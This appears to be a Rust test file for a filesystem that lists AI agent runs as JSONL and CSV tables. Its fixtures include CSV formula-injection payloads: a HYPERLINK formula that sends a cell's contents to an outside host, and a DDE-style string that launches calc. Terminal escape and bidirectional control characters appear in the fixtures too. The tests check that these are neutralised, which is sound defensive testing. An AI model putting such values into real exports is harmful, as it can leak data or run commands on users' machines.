//! The listing of runs as tables, read by the tools that people have; and the
//! link to an agent's newest run.

use crate::support::{Bench, Mount, Who, reason};
use serde_json::{Value, json};
use vm0fs::demo::{Agent, Run, World};

/// Reads CSV with Python's own reader and gives its rows as JSON objects.
const PYTHON: &str = r#"python3 -c '
import csv, json, sys
with open(sys.argv[1], newline="", encoding="utf-8") as file:
    print(json.dumps(list(csv.DictReader(file, strict=True))))
' "#;

/// An agent's name that CSV has to quote, and one of a formula.
const ODD: &str = "say \"hi\", world";
const FORMULA: &str = "=HYPERLINK(\"http://example.com/?\"&A1;\"x\")";

/// What a prompt is, and what the tables show of it.
fn prompts() -> Vec<(String, String)> {
    let plain = |prompt: &str, shown: &str| (prompt.to_owned(), shown.to_owned());
    vec![
        plain("Summarise the data\nand the rest", "Summarise the data"),
        plain(
            "\n \n\tFirst, with \"quotes\"\r\nsecond",
            "First, with \"quotes\"",
        ),
        plain(
            "\u{1b}[31mred\u{7}\u{202e} and\u{0}back",
            "[31mred and back",
        ),
        plain(FORMULA, FORMULA),
        plain("-1+1|' /C calc'!A0", "-1+1|' /C calc'!A0"),
        plain("a; =1+1", "a; =1+1"),
        plain("ünï – 日本 😀", "ünï – 日本 😀"),
        plain("", ""),
        ("x".repeat(10_000), "x".repeat(500) + "…"),
    ]
}

/// A run of `writer` for each prompt, the oldest first; one of an odd agent that
/// is going on, one that never started; and an agent without runs.
fn world() -> World {
    let mut world = World::empty();
    world.pace = None;
    for name in ["writer", ODD, "bare"] {
        world.add_agent(Agent::new(name, world.ago(90_000)));
    }
    for (number, (prompt, _)) in prompts().into_iter().enumerate() {
        let created = world.ago(9_000 - 100 * number as i64);
        let mut run = Run::new("writer", created).prompt(prompt);
        let after = |milliseconds| {
            let length = jiff::SignedDuration::from_millis(milliseconds);
            created.checked_add(length).unwrap()
        };
        run.started_at = Some(after(1_000));
        // A whole number of seconds, and not.
        run.completed_at = Some(after(61_000 + 250 * number as i64));
        world.add_run(run);
    }
    let mut going_on = Run::new(ODD, world.ago(50))
        .status("running")
        .prompt("Go on");
    going_on.completed_at = None;
    world.add_run(going_on);
    let mut never = Run::new(ODD, world.ago(40))
        .status("cancelled")
        .prompt("No");
    never.started_at = None;
    world.add_run(never);
    world
}

/// The rows that a table should have, made of the service's, newest first.
fn expected(bench: &Bench, agent: Option<&str>) -> Vec<Value> {
    let world = bench.server.world();
    let shown = prompts();
    let row = |run: &Run| {
        let at = |at: jiff::Timestamp| format!("{at:.3}");
        let length = run.started_at.zip(run.completed_at);
        let milliseconds = length.map(|(start, end)| end.duration_since(start).as_millis());
        let first = shown.iter().find(|(prompt, _)| *prompt == run.prompt);
        json!({
            "id": run.id,
            "agent": run.agent_name,
            "status": run.status,
            "created": at(run.created_at),
            "started": run.started_at.map(at),
            "completed": run.completed_at.map(at),
            "duration": milliseconds.map(|all| match all % 1000 {
                0 => json!(all / 1000),
                _ => json!(all as f64 / 1000.0),
            }),
            "prompt": first.map_or(&run.prompt, |(_, shown)| shown),
        })
    };
    let wanted = |run: &&Run| agent.is_none_or(|agent| run.agent_name == agent);
    world.runs.iter().rev().filter(wanted).map(row).collect()
}

/// The places of a table, with the agent whose runs it shows.
fn places() -> [(String, Option<&'static str>); 4] {
    [
        ("runs".into(), None),
        ("agents/writer".into(), Some("writer")),
        (format!("agents/{ODD}"), Some(ODD)),
        ("agents/bare".into(), Some("bare")),
    ]
}

fn jq(mount: &Mount, script: &str) -> Value {
    serde_json::from_str(&mount.run(script)).unwrap()
}

#[test]
fn jq_reads_the_runs_newest_first() {
    for who in Who::all() {
        let bench = Bench::new(world());
        let mount = bench.mount_as(who).start();
        for (place, agent) in places() {
            let rows = jq(&mount, &format!("cd '{place}' && jq -s . .runs.jsonl"));
            assert_eq!(rows, Value::Array(expected(&bench, agent)), "{place}");
            let text = mount.cat(&format!("{place}/.runs.jsonl"));
            assert_eq!(text.lines().count(), rows.as_array().unwrap().len());
            assert!(!text.contains(|c: char| c.is_control() && c != '\n'));
        }
        let longest = jq(
            &mount,
            "jq -s 'map(select(.duration)) | max_by(.duration).duration' runs/.runs.jsonl",
        );
        assert_eq!(longest, json!(62));
        let newest = mount.run("head -n 1 runs/.runs.jsonl | jq -r .status");
        assert_eq!(newest, "cancelled\n");
        assert_eq!(mount.run("grep -c '\"running\"' runs/.runs.jsonl"), "1\n");
    }
}

#[test]
fn csv_readers_find_the_same_rows_and_no_formula() {
    for who in Who::all() {
        let bench = Bench::new(world());
        let mount = bench.mount_as(who).start();
        for (place, agent) in places() {
            let rows = jq(&mount, &format!("cd '{place}' && {PYTHON} .runs.csv"));
            let rows = rows.as_array().unwrap();
            let expected = expected(&bench, agent);
            assert_eq!(rows.len(), expected.len(), "{place}");
            for (row, expected) in rows.iter().zip(&expected) {
                for (name, value) in expected.as_object().unwrap() {
                    let text = match value {
                        Value::Null => String::new(),
                        Value::String(text) => text.clone(),
                        number => number.to_string(),
                    };
                    let cell = row[name].as_str().unwrap();
                    // The mark of text is all that is different.
                    assert_eq!(cell.replace('\'', ""), text.replace('\'', ""), "{name}");
                    // Where `;` separates cells, too.
                    let parts = cell
                        .split(';')
                        .map(|part| part.trim_start_matches([' ', '"']));
                    for part in parts.filter(|_| value.is_string()) {
                        assert!(!part.starts_with(['=', '+', '-', '@']), "{cell}");
                    }
                }
                assert_eq!(row.as_object().unwrap().len(), 8);
            }
            let lines = mount.run(&format!("cd '{place}' && wc -l < .runs.csv"));
            assert_eq!(lines.trim(), (rows.len() + 1).to_string());
            let text = mount.cat(&format!("{place}/.runs.csv"));
            assert!(!text.contains(|c: char| c.is_control() && c != '\n'));
        }
        let marked = mount.run("grep -c \"'=HYPERLINK\" agents/writer/.runs.csv");
        assert_eq!(marked, "1\n");
    }
}

#[test]
fn a_database_imports_the_runs() {
    let bench = Bench::new(world());
    let mount = bench.mount().start();
    let sql = "select count(*), sum(duration), max(created) = (select created from r limit 1), \
               sum(agent like 'say%'), sum(started = ''), count(distinct id) from r";
    let answer = mount.run(&format!(
        "sqlite3 :memory: '.mode csv' '.import runs/.runs.csv r' \"{sql}\""
    ));
    assert_eq!(answer.trim(), "11,549.0,1,2,1,11");
}

#[test]
fn tables_cost_the_listing_and_their_sizes_are_true() {
    for who in Who::all() {
        let bench = Bench::new(world());
        let mount = bench.mount_as(who).start();
        bench.server.clear_requests();
        mount.run("ls runs > /dev/null");
        bench.expect_calls(1, "the listing");
        let shown = mount.run("ls runs; echo runs/*");
        assert!(!shown.contains(".runs"), "{shown}");
        mount.run("ls -lA runs; cat runs/.runs.jsonl runs/.runs.csv; grep -r running runs/.runs.*");
        for form in ["jsonl", "csv"] {
            for folder in ["runs", "agents/writer", "agents/bare"] {
                let sizes = mount.run(&format!(
                    "cd {folder} && stat -c %s .runs.{form} && cat .runs.{form} | wc -c"
                ));
                let (size, read) = sizes.trim().split_once('\n').unwrap();
                assert_eq!(size, read.trim(), "{folder} {form}");
            }
        }
        bench.expect_calls(0, "made of the listing");
        let ages = mount.run(
            "cd runs && newest=$(ls -t | head -n 1) && \
             stat -c %Y .runs.csv $newest ../agents/bare/.runs.csv",
        );
        let ages: Vec<i64> = ages.lines().map(|age| age.parse().unwrap()).collect();
        assert_eq!(ages[0], ages[1], "as its newest run");
    }
}

#[test]
fn a_table_follows_the_answers_for_its_runs() {
    let bench = Bench::new(world());
    let mount = bench.mount().with(["--list-ttl", "1h"]).start();
    let status = "jq -r .status runs/.runs.jsonl | sort | uniq -c | tr -s ' \\n' ' '";
    assert_eq!(mount.run(status), " 1 cancelled 9 completed 1 running ");
    let id = mount.run("echo Go > agents/writer/run && cat agents/writer/run");
    let first = mount.run("head -n 1 agents/writer/.runs.jsonl | jq -r .id");
    assert_eq!(first, id, "one that was started is there");
    assert_eq!(
        mount.run(status),
        " 1 cancelled 9 completed 1 pending 1 running "
    );
    bench.server.world().set_status(id.trim(), "failed");
    // The listing is good for an hour; the run's own answer tells.
    mount.run(&format!("echo > runs/{}/cancel; true", id.trim()));
    bench.server.clear_requests();
    let row = format!("grep {} runs/.runs.csv | cut -d, -f3", id.trim());
    let own = mount.cat(&format!("runs/{}/status", id.trim()));
    assert_eq!(mount.run(&row), own);
}

#[test]
fn latest_leads_to_the_newest_run_of_an_agent() {
    for who in Who::all() {
        let bench = Bench::new(world());
        let mount = bench.mount_as(who).with(["--list-ttl", "1h"]).start();
        bench.server.clear_requests();
        let newest = expected(&bench, Some("writer"))[0]["id"].clone();
        let target = mount.run("readlink agents/writer/latest");
        assert_eq!(target, format!("../../runs/{}\n", newest.as_str().unwrap()));
        let calls: Vec<String> = bench.api_calls().iter().map(|call| call.line()).collect();
        assert!(calls.len() <= 2, "the listings: {calls:?}");
        bench.server.clear_requests();
        assert_eq!(mount.cat("agents/writer/latest/status"), "completed\n");
        mount.fails("readlink -v agents/bare/latest", reason::MISSING);
        bench.expect_calls(0, "the listings tell");
        assert!(mount.list("agents/writer").contains(&"latest".into()));
        assert!(!mount.list("agents/bare").contains(&"latest".into()));
        // One that is started is the newest at once.
        mount.run("echo Go > agents/writer/run");
        assert_eq!(
            mount.run("readlink agents/writer/latest"),
            format!("../../runs/{}", mount.cat("agents/writer/run"))
        );
        mount.run("echo Go > agents/bare/run");
        assert_eq!(mount.cat("agents/bare/latest/prompt"), "Go\n");
        let listed = mount.run("ls -l agents/bare/latest");
        assert!(listed.contains(" -> ../../runs/"), "{listed}");
    }
}

#[test]
fn an_agent_is_listed_although_its_runs_cannot_be() {
    use crate::support::fake::{Action, Fault};
    let bench = Bench::new(world());
    bench
        .server
        .fault(Fault::api("/v1/runs", Action::internal_error()));
    let mount = bench.mount().start();
    let names = mount.list("agents/writer");
    assert!(names.contains(&"agent.json".into()), "{names:?}");
    assert!(!names.contains(&"latest".into()), "{names:?}");
    mount.fails("cat runs/.runs.csv", reason::IO);
}
